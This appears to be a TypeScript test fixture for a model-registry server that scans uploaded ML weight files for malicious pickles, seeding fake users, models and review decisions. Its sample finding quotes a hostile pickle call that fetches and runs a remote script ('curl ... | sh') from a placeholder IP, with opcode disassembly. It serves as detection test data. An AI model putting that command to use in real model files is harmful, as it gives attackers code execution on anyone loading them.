import { randomBytes } from 'node:crypto'
import { mkdtemp } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { openUploadFolder } from '../../src/adapters/uploads-files/index.ts'
import {
  createHttpServer,
  type HttpConfig,
  type HttpDeps,
  type HttpServer,
} from '../../src/faces/http/index.ts'
import { digestOfBytes, type Finding } from '../../src/ground/domain/index.ts'
import {
  createIdentity,
  type Identity,
  memoryIdentityStore,
  memoryRequestMemory,
} from '../../src/services/identity/index.ts'
import { fakeCompare, fakeConvert } from './fake-compare.ts'
import { type FakeHub, fakeHub } from './fake-hub.ts'
import { type FakeLedger, fakeLedger } from './fake-ledger.ts'
import { fakeLineage } from './fake-lineage.ts'
import { FAKE_POLICY } from './fake-policy.ts'
import { type FakeRegistry, fakeRegistry, type Judge } from './fake-registry.ts'
import { type FakeReview, fakeReview } from './fake-review.ts'
import { fakeRuns } from './fake-runs.ts'
import { fakeStandings } from './fake-standings.ts'
import { fakeSubjects } from './fake-subjects.ts'

const RULES = { assessor: 'model', version: '0.1.0', ruleSet: `sha256:${'ab'.repeat(32)}` }

const EVIL: Omit<Finding, 'location'> = {
  ruleId: 'pickle/os-command',
  severity: 'critical',
  verdict: 'malicious',
  title: 'Loading this file starts a program',
  message: 'imports posix.system and calls it while the file is loaded',
  call: "posix.system('curl -s http://203.0.113.7/x | sh')",
  context: [
    '0x0000  PROTO       4',
    '0x0002  FRAME       61',
    "0x000b  SHORT_BINUNICODE 'posix'",
    "0x0013  SHORT_BINUNICODE 'system'",
    '0x001c  STACK_GLOBAL',
    "0x001d  SHORT_BINUNICODE 'curl -s http://203.0.113.7/x | sh'",
    '0x0041  TUPLE1',
    '0x0042  REDUCE      ← here',
    '0x0043  STOP',
  ],
  remedy: 'Do not load this file. Ask its author for the weights as safetensors.',
  taxonomy: ['CWE-502', 'AML.T0011.000'],
  fingerprint: '4f1d2c3b5a697887',
}

/** Judges by name: `evil` is malicious, `strange` undecided, `odd` suspicious, all else clean. */
const judgeByName: Judge = (name, size) => {
  const file = (
    verdict: 'clean' | 'malicious' | 'undecided' | 'suspicious',
    findings: readonly Finding[],
    reason?: string,
  ) => ({
    assessor: RULES,
    verdict,
    files: [
      {
        path: name,
        sizeBytes: size,
        verdict,
        findings,
        coverage: [
          {
            path: name,
            format: name.endsWith('.pt') ? 'pytorch-zip' : name.endsWith('.pkl') ? 'pickle' : 'safetensors',
            sizeBytes: size,
            readBytes: reason === undefined ? size : Math.floor(size / 3),
            status: reason === undefined ? ('full' as const) : ('partial' as const),
            ...(reason === undefined ? {} : { reason }),
          },
        ],
      },
    ],
  })
  if (name.includes('evil'))
    return file('malicious', [
      { ...EVIL, location: { path: name, members: ['archive/data.pkl'], offset: 0x42 } },
    ])
  if (name.includes('strange'))
    return file('undecided', [], 'the pickle breaks off at byte 143, in opcode BINUNICODE')
  if (name.includes('odd'))
    return file('suspicious', [
      {
        ...EVIL,
        ruleId: 'pickle/unknown-import',
        severity: 'medium',
        verdict: 'suspicious',
        title: 'Loading this file imports something unknown',
        message: 'imports acme.layers.FancyHead, which is on no allowlist',
        call: "acme.layers.FancyHead(dim=768, act='gelu')",
        remedy: 'Read that class, then waive this rule or add it to the allowlist.',
        fingerprint: '99aa2c3b5a697887',
        location: { path: name, members: ['archive/data.pkl'], offset: 118 },
      },
    ])
  return file('clean', [])
}

export interface FakeHouse {
  readonly server: HttpServer
  readonly registry: FakeRegistry
  readonly ledger: FakeLedger
  readonly review: FakeReview
  readonly hub: FakeHub
  readonly identity: Identity
  readonly deps: HttpDeps
}

/** The HTTP face over fakes, not yet listening. */
export async function fakeHouse(
  more: Partial<Omit<HttpDeps, 'config'>> & {
    readonly config?: Partial<HttpConfig>
    readonly judge?: Judge
  } = {},
): Promise<FakeHouse> {
  const { config, judge, ...rest } = more
  const now = rest.now ?? (() => new Date())
  const ledger = fakeLedger()
  const registry = fakeRegistry(ledger, judge ?? judgeByName, now)
  const review = fakeReview(registry, now)
  const hub = fakeHub()
  const random = (bytes: number) => randomBytes(bytes)
  const identity = createIdentity({ store: memoryIdentityStore(), now, random })
  const deps: HttpDeps = {
    registry,
    ledger,
    verifierKey: ledger.verifierKey,
    identity,
    memory: memoryRequestMemory(now),
    lineage: fakeLineage(registry),
    compare: fakeCompare(registry),
    convert: fakeConvert(registry),
    runs: fakeRuns,
    subjects: fakeSubjects(registry),
    review,
    hub,
    policy: () => FAKE_POLICY,
    standings: fakeStandings,
    uploads: await openUploadFolder({ folder: await mkdtemp(join(tmpdir(), 'sallyport-uploads-')) }),
    now,
    random,
    ...rest,
    config: { version: '0.1.0', allowedHosts: [], importRoots: [], maxUploadBytes: 1_000_000, ...config },
  }
  return {
    server: await createHttpServer(deps),
    registry,
    ledger,
    review,
    hub,
    identity: deps.identity,
    deps,
  }
}

/** Fills a house with models in every stage; resolves to the admin's id. */
export async function furnish({ identity, deps, review }: FakeHouse): Promise<string> {
  const people = {
    ada: await identity.createPrincipal({ role: 'admin', name: 'Ada (you)' }),
    ben: await identity.createPrincipal({ role: 'reviewer', name: 'Ben' }),
    cy: await identity.createPrincipal({ role: 'contributor', name: 'Cy' }),
  }
  const actor = (who: keyof typeof people) => ({
    principalId: people[who].id,
    owner: people[who].owner,
    authentication: 'local' as const,
    requestDigest: EMPTY,
  })
  const add = async (
    name: string,
    assess: boolean,
    parent?: Awaited<ReturnType<typeof registry.get>>['digest'],
  ) => {
    async function* bytes() {
      yield new Uint8Array(randomBytes(2000 + name.length * 977))
    }
    const upload = await deps.uploads.receive(bytes(), name, 1_000_000)
    const request = { path: upload.path, ...(parent === undefined ? {} : { derivedFrom: parent }) }
    const { digest } = await registry.importModel(request, actor('cy'))
    if (assess) await registry.assess(digest, actor('cy'))
    await upload.discard()
    return digest
  }
  const { registry } = deps
  const base = await add('sentiment-base.safetensors', true)
  await registry.approve(
    base,
    { stage: 'production', note: 'Trained by us; weights match the run.' },
    actor('ada'),
  )
  await registry.approve(base, { stage: 'production', note: 'Same from me.' }, actor('ben'))
  await registry.promote(base, { stage: 'staging' }, actor('ada'))
  await registry.promote(base, { stage: 'production' }, actor('ada'))
  const tuned = await add('sentiment-tuned.pt', true, base)
  await registry.approve(tuned, { stage: 'staging', note: 'Fine for staging.' }, actor('ben'))
  await registry.promote(tuned, { stage: 'staging' }, actor('ada'))
  await registry.promote(tuned, { stage: 'production' }, actor('ada'))
  const approved = await add('toxicity-v3.safetensors', true, base)
  await registry.approve(approved, { stage: 'staging', note: 'Read the card, ran the tests.' }, actor('ben'))
  await add('resnet-clean.pt', true)
  const evil = await add('evil-resnet.pt', true)
  const decision = await registry.promote(evil, { stage: 'production' }, actor('ada'))
  const { principalId, owner } = actor('cy')
  review.noteRequest({ digest: evil, stage: 'production', door: 'promote', principalId, owner, decision })
  await add('strange-embedding.pkl', true)
  const odd = await add('odd-head.pt', true)
  const until = new Date(deps.now().getTime() + 30 * 86_400_000).toISOString()
  const waiver = { ruleId: 'pickle/unknown-import', reason: 'Our own class, read by Ben.', until }
  await registry.waive(odd, waiver, actor('ben'))
  await add('just-arrived.safetensors', false)
  const old = await add('sentiment-2023.pt', true)
  await registry.revoke(old, { note: 'Its training data held personal data.' }, actor('ada'))
  const refused = await add('unlicensed.safetensors', true)
  await registry.reject(refused, { note: 'No licence.' }, actor('ben'))
  return people.ada.id
}

const EMPTY = digestOfBytes(new Uint8Array())

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const root = join(dirname(fileURLToPath(import.meta.url)), '../..')
  const house = await fakeHouse({ webRoot: join(root, 'web/dist'), config: { maxUploadBytes: 2 ** 30 } })
  const admin = await furnish(house)
  const { url } = await house.server.listen({ host: '127.0.0.1', port: Number(process.argv[2] ?? 7450) })
  const { secret } = await house.identity.createLoginLink(admin)
  const token = await house.identity.createToken({ principalId: admin, label: 'dev' })
  process.stdout.write(`${url}/login?token=${secret}\nAuthorization: Bearer ${token.secret}\n`)
}
